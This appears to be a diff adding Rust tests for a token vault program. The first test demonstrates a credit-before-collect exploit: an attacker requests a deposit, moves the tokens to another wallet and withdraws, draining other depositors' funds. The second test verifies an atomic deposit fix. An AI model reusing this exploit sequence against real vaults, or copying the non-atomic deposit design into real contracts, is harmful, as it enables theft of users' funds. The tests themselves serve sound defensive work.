@@ -0,0 +1,57 @@
+#[tokio::test]
+async fn test_credit_before_collect_exploit() {
+    println!("\n=== EXPLOIT: Deposit Credited, Tokens Moved Away ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(1_000_000).await;
+    let mallory_usdc = create_token_account_with_balance(&mallory.pubkey(), 100_000).await;
+    let mallory_other = create_token_account(&mallory.pubkey()).await;
+
+    println!("1. [request_deposit(100,000), transfer to her other wallet, withdraw(100,000)]");
+    // Vulnerable: credit exists before the vault holds the tokens
+    send_transaction(
+        &[
+            request_deposit_ix(&vault, &mallory, &mallory_usdc, 100_000),
+            spl_transfer_ix(&mallory_usdc, &mallory_other, &mallory, 100_000),
+            withdraw_ix(&vault, &mallory, &mallory_usdc, 100_000),
+        ],
+        &[&mallory],
+    )
+    .await
+    .unwrap();
+
+    println!("\n2. Keeper tries to collect the pending deposit");
+    let result = collect_deposit(&vault, &mallory.pubkey()).await;
+    assert!(result.is_err());
+
+    assert_eq!(get_token_balance(&vault.vault_token).await, 900_000);
+    assert_eq!(
+        get_token_balance(&mallory_usdc).await + get_token_balance(&mallory_other).await,
+        200_000
+    );
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 100,000 USDC of other depositors' funds withdrawn");
+}
+
+#[tokio::test]
+async fn test_atomic_deposit() {
+    println!("\n=== SECURITY: Transfer And Credit In One Instruction ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(1_000_000).await;
+    let mallory_usdc = create_token_account_with_balance(&mallory.pubkey(), 100_000).await;
+
+    println!("1. Deposit more than she holds");
+    let result = deposit(&vault, &mallory, &mallory_usdc, 150_000).await;
+    assert!(result.is_err());
+    assert_eq!(get_deposit(&mallory.pubkey()).await.map(|d| d.balance), None);
+    println!("   ✓ Transfer failed; nothing credited");
+
+    println!("\n2. Deposit 100,000");
+    deposit(&vault, &mallory, &mallory_usdc, 100_000).await.unwrap();
+    assert_eq!(get_token_balance(&vault.vault_token).await, 1_100_000);
+    assert_eq!(get_deposit(&mallory.pubkey()).await.unwrap().balance, 100_000);
+    assert_eq!(get_token_account(&mallory_usdc).await.delegate, None);
+    println!("   ✓ Credited exactly what the vault received; no delegation left");
+}